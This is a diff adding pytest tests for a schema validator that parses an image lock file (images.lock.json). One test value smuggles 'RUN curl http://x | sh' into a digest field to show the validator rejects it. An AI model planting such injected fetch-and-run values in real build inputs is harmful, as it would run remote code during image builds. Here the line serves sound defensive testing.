@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 
 import pytest
 
@@ -133,3 +134,74 @@ def test_missing_lock(tmp_path):
     with pytest.raises(LockFileError, match="strata push"):
         read_images_lock(tmp_path / "images.lock.json")
     assert read_images_lock(tmp_path / "images.lock.json", missing_ok=True).images == {}
+
+
+def _entry(**change):
+    entry = {
+        "digest": "sha256:" + "a" * 64,
+        "config_digest": "sha256:" + "b" * 64,
+        "node": "tools-tf2.13.1-cpu",
+        "layer": "tools",
+        "parent": "tf2.13.1-cpu-py3.11",
+        "cells": ["tf2.13.1-cpu"],
+        "content_hash": "c" * 64,
+        "profile": "hermetic",
+        "versions": {"os": "bookworm", "cuda": None},
+        "size": {"compressed": 1, "uncompressed": None},
+    }
+    entry.update(change)
+    return entry
+
+
+REF = "127.0.0.1:5000/strata/tensorflow:2.13.1-cpu"
+
+
+@pytest.mark.parametrize(
+    ("images", "message"),
+    [
+        (
+            {REF: _entry(digest="sha256:" + "a" * 64 + "\nRUN curl http://x | sh")},
+            rf"images\['{REF}'\]\.digest: must be sha256: followed by 64 lower-case hex digits, got ",
+        ),
+        ({REF: _entry(digest="")}, r"\.digest: must be sha256: followed by 64 lower-case hex digits, got ''"),
+        ({REF: _entry(digest=7)}, r"\.digest: must be string, got int 7"),
+        ({REF: _entry(content_hash="xyz")}, r"\.content_hash: must be 64 lower-case hex digits"),
+        ({REF: _entry(size={"compressed": "1"})}, r"\.size\.compressed: must be integer, got str '1'"),
+        ({REF: _entry(surprise=1)}, r"\.surprise: unknown key"),
+        ({"not a ref": _entry()}, r"images\['not a ref'\] \(key\): must be an image reference with a tag"),
+        (
+            {REF + "@sha256:" + "a" * 64: _entry()},
+            r"\(key\): must be an image reference with a tag and no digest",
+        ),
+    ],
+)
+def test_the_whole_lock_is_checked_against_its_schema(images, message):
+    text = json.dumps({"schema": 1, "images": images})
+    with pytest.raises(LockFileError) as info:
+        parse_images_lock(text, "images.lock.json")
+    lines = str(info.value).splitlines()
+    assert len(lines) == 1 and lines[0].startswith("images.lock.json: images["), lines
+    assert re.search(message, lines[0]), lines[0]
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("[" * 100_000, "nested too deeply"),
+        ('{"schema": 1, "schema": 1, "images": {}}', "duplicate key 'schema'"),
+        ('{"schema": 1, "images": {"r/a:1": {"size": {"compressed": NaN}}}}', "NaN is not a JSON number"),
+        ('{"schema": 1, "images": {}, "n": ' + "9" * 5000 + "}", "not valid JSON"),
+    ],
+)
+def test_json_that_could_hurt_the_reader_is_one_error(text, message):
+    with pytest.raises(LockFileError, match=message):
+        parse_images_lock(text, "images.lock.json")
+
+
+def test_a_lock_that_is_not_utf8_or_not_a_file_is_one_error(tmp_path):
+    path = tmp_path / "images.lock.json"
+    path.write_bytes(b'{"schema": 1, "images": {"\xff": {}}}')
+    with pytest.raises(LockFileError, match=r"not UTF-8 text \(byte 0xff at offset 26\)"):
+        read_images_lock(path)
+    with pytest.raises(LockFileError, match="not a regular file"):
+        read_images_lock(tmp_path)
